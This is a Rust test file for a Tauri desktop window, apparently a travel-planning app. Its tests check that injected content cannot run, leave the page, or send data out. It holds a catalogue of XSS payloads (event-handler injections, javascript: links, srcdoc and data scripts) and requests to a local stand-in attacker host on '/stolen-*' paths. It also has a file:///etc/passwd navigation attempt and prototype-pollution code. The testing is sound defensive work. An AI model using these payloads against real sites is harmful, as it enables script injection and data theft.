//! What hostile content tries in the real window: to run, to reach somebody, to go elsewhere, to be more than text.

use crate::{
    driver::Driver,
    stage::{Stage, rings},
};
use serde_json::{Value, json};
use std::sync::{Arc, Mutex};
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::TcpListener,
};
use zhiyou_domain::link;

/// A site of an attacker, who notes what reaches it.
struct Outside {
    address: String,
    heard: Arc<Mutex<Vec<String>>>,
}

impl Outside {
    async fn open() -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let address = format!("http://{}/", listener.local_addr().unwrap());
        let heard = Arc::new(Mutex::new(Vec::new()));
        let notes = Arc::clone(&heard);
        tokio::spawn(async move {
            while let Ok((mut connection, _)) = listener.accept().await {
                let mut request = [0; 1024];
                let length = connection.read(&mut request).await.unwrap_or(0);
                let line = String::from_utf8_lossy(&request[..length]).lines().next().unwrap_or_default().to_owned();
                notes.lock().unwrap().push(line);
                let page = "<!doctype html><title>outside</title><body></body>";
                let answer = format!(
                    "HTTP/1.1 200 OK\r\ncontent-type: text/html\r\naccess-control-allow-origin: *\r\nconnection: close\r\n\
                     content-length: {}\r\n\r\n{page}",
                    page.len()
                );
                let _ = connection.write_all(answer.as_bytes()).await;
            }
        });
        Self { address, heard }
    }

    /// What reached it that only an attack asks for.
    fn stolen(&self) -> Vec<String> {
        let heard = self.heard.lock().unwrap();
        heard.iter().filter(|line| line.contains("/stolen-")).cloned().collect()
    }
}

/// Every way we know in which something put into a page could run, load or send. Answers what ran.
const ATTEMPTS: &str = r#"
window.ran = [];
const put = (name, set) => { const made = document.createElement(name); set(made); document.body.append(made); return made; };
const attempts = [
  () => put("script", (made) => { made.textContent = "ran.push('inline script')"; }),
  () => put("script", (made) => { made.src = outside + "stolen-script"; }),
  () => put("script", (made) => { made.src = "data:text/javascript,ran.push('data script')"; }),
  () => put("script", (made) => { made.type = "module"; made.textContent = "ran.push('module')"; }),
  () => put("div", (made) => { made.innerHTML = "<img src=x onerror=\"ran.push('onerror')\">"; }),
  () => put("div", (made) => { made.innerHTML = "<svg onload=\"ran.push('svg')\"><script>ran.push('svg script')</script></svg>"; }),
  () => put("div", (made) => { made.innerHTML = "<details open ontoggle=\"ran.push('ontoggle')\"><summary>x</summary></details>"; }),
  () => put("div", (made) => { made.innerHTML = "<input autofocus onfocus=\"ran.push('onfocus')\">"; }),
  () => put("div", (made) => { made.innerHTML = "<math><a href=\"javascript:ran.push('math')\">x</a></math>"; }),
  () => put("p", (made) => { made.setAttribute("onclick", "ran.push('onclick')"); }).click(),
  () => put("a", (made) => { made.href = "javascript:ran.push('javascript link')"; }).click(),
  () => put("style", (made) => { made.textContent = `body { background: url(${outside}stolen-style) }`; }),
  () => put("p", (made) => { made.setAttribute("style", `background: url(${outside}stolen-attribute)`); }),
  () => put("link", (made) => { made.rel = "stylesheet"; made.href = outside + "stolen-sheet"; }),
  () => put("img", (made) => { made.src = outside + "stolen-image"; }),
  () => put("iframe", (made) => { made.src = outside + "stolen-frame"; }),
  () => put("iframe", (made) => { made.srcdoc = "<script>parent.ran.push('srcdoc')</script>"; }),
  () => put("object", (made) => { made.data = outside + "stolen-object"; }),
  () => put("embed", (made) => { made.src = outside + "stolen-embed"; }),
  () => put("video", (made) => { made.src = outside + "stolen-video"; made.load(); }),
  () => navigator.sendBeacon(outside + "stolen-beacon", "x"),
  () => { const asked = new XMLHttpRequest(); asked.open("GET", outside + "stolen-xhr"); asked.send(); },
  () => new WebSocket(outside.replace("http", "ws") + "stolen-socket"),
  () => new EventSource(outside + "stolen-events"),
  () => { new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))).onmessage = () => ran.push("worker"); },
  () => window.eval("ran.push('eval')"),
  () => new Function("ran.push('function')")(),
  () => setTimeout("ran.push('timer')", 0),
];
for (const attempt of attempts) { try { attempt(); } catch { /* refused at once */ } }
// A request of ours ends after all that were made before it.
return fetch(outside + "stolen-fetch").then(() => ran.push("fetch"), () => {})
  .then(() => new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done))))
  .then(() => ran);
"#;

async fn attempted(page: &Driver, outside: &Outside) -> Value {
    page.run(&format!("const outside = {:?};\n{ATTEMPTS}", outside.address)).await
}

#[tokio::test(flavor = "multi_thread")]
async fn ta_07_ta_08_ta_10_ta_11_nothing_put_into_the_page_runs_or_reaches_anybody() {
    let stage = Stage::new(&[]).await;
    let outside = Outside::open().await;
    assert_eq!(attempted(&stage.window, &outside).await, json!([]));
    rings(&stage.window).await;
    assert_eq!(outside.stolen(), [""; 0]);
    // The same on a page without a policy runs and reaches.
    let browser = stage.browser().await;
    browser.open(&outside.address).await;
    let ran = attempted(&browser, &outside).await;
    assert!(ran.as_array().unwrap().len() > 5, "{ran}");
    browser.until("something to arrive", "return ran.includes('fetch')").await;
    assert!(outside.stolen().len() > 5, "{:?}", outside.stolen());
    browser.close().await;
    stage.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn ta_05_ta_06_the_window_goes_nowhere_else_and_opens_no_other() {
    let stage = Stage::new(&[]).await;
    let outside = Outside::open().await;
    for address in [
        format!("{}stolen-page", outside.address),
        "file:///etc/passwd".to_owned(),
        "data:text/html,<title>outside</title>".to_owned(),
        "javascript:document.title = 'outside'".to_owned(),
        link!("open/order/x").to_owned(),
    ] {
        let go = format!(
            "const to = {address:?}; let opened = null; try {{ opened = window.open(to); }} catch {{ /* refused at once */ }} \
             const link = document.createElement('a'); link.href = to; document.body.append(link); link.click(); link.remove(); \
             try {{ location.href = to; }} catch {{ /* refused at once */ }} return opened === null"
        );
        assert_eq!(stage.window.run(&go).await, true, "{address}");
        // The page still answers, and what it asks still comes back: it is the same page.
        rings(&stage.window).await;
        let still = "return ['tauri:', 'http:'].includes(location.protocol) && document.title !== 'outside' \
             && document.querySelector('[data-testid=demo-band]') !== null";
        assert_eq!(stage.window.run(still).await, true, "{address}");
    }
    assert_eq!(outside.stolen(), [""; 0]);
    stage.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn ta_08_ta_09_what_a_plan_says_is_shown_as_the_text_it_is() {
    const TITLE: &str = "<img src=x onerror=ran=1><script>ran=2</script>[pay](javascript:ran=3)";
    let stage = Stage::new(&[]).await;
    let window = &stage.window;
    let mut plan: Value = serde_json::from_str(include_str!("../../examples/shanghai-weekend.zh-CN.json")).unwrap();
    plan["title"] = TITLE.into();
    plan["travellers"][0]["display_name"] = "<img src=x onerror=ran=4>".into();
    window.click("[data-testid=import-open]").await;
    window.fill("[data-testid=import-text]", &plan.to_string()).await;
    window.click("[data-testid=import-submit]").await;
    window.until("the title as it was typed", &format!("return document.body.textContent.includes({TITLE:?})")).await;
    let inert = "return document.querySelector('img[src=x], main script, a[href^=javascript]') === null && window.ran === undefined";
    assert_eq!(window.run(inert).await, true);
    stage.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn ta_12_what_all_objects_inherit_from_cannot_be_changed_by_a_page() {
    let stage = Stage::new(&[]).await;
    let pollute = "try { Object.prototype.name = 'cancel_order'; } catch { /* refused at once */ } \
         try { Object.prototype.__proto__ = { name: 'cancel_order' }; } catch { /* refused at once */ } \
         return ({}).name === undefined && Object.isFrozen(Object.prototype)";
    assert_eq!(stage.window.run(pollute).await, true);
    rings(&stage.window).await;
    stage.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn oa_71_no_script_in_the_window_hears_of_a_link() {
    let stage = Stage::new(&[]).await;
    let listen = "window.heard = []; const { invoke, transformCallback } = window.__TAURI_INTERNALS__; \
         const handler = transformCallback((event) => window.heard.push(JSON.stringify(event))); \
         const listen = { event: 'deep-link://new-url', target: { kind: 'Any' }, handler }; \
         return Promise.all([invoke('plugin:event|listen', listen), invoke('plugin:deep-link|get_current')] \
         .map((asked) => asked.then(() => 'heard', String)))";
    for refusal in stage.window.run(listen).await.as_array().unwrap() {
        assert!(refusal.as_str().unwrap().contains("not allowed"), "{refusal}");
    }
    Stage::follow(link!("auth/zz-club?code=OnlyForTheCore&state=Ab-_567890123456789012345678901234567890123")).await;
    // What was sent to the page before these answers would be there.
    rings(&stage.window).await;
    assert_eq!(stage.window.run("return window.heard").await, json!([]));
    stage.close().await;
}
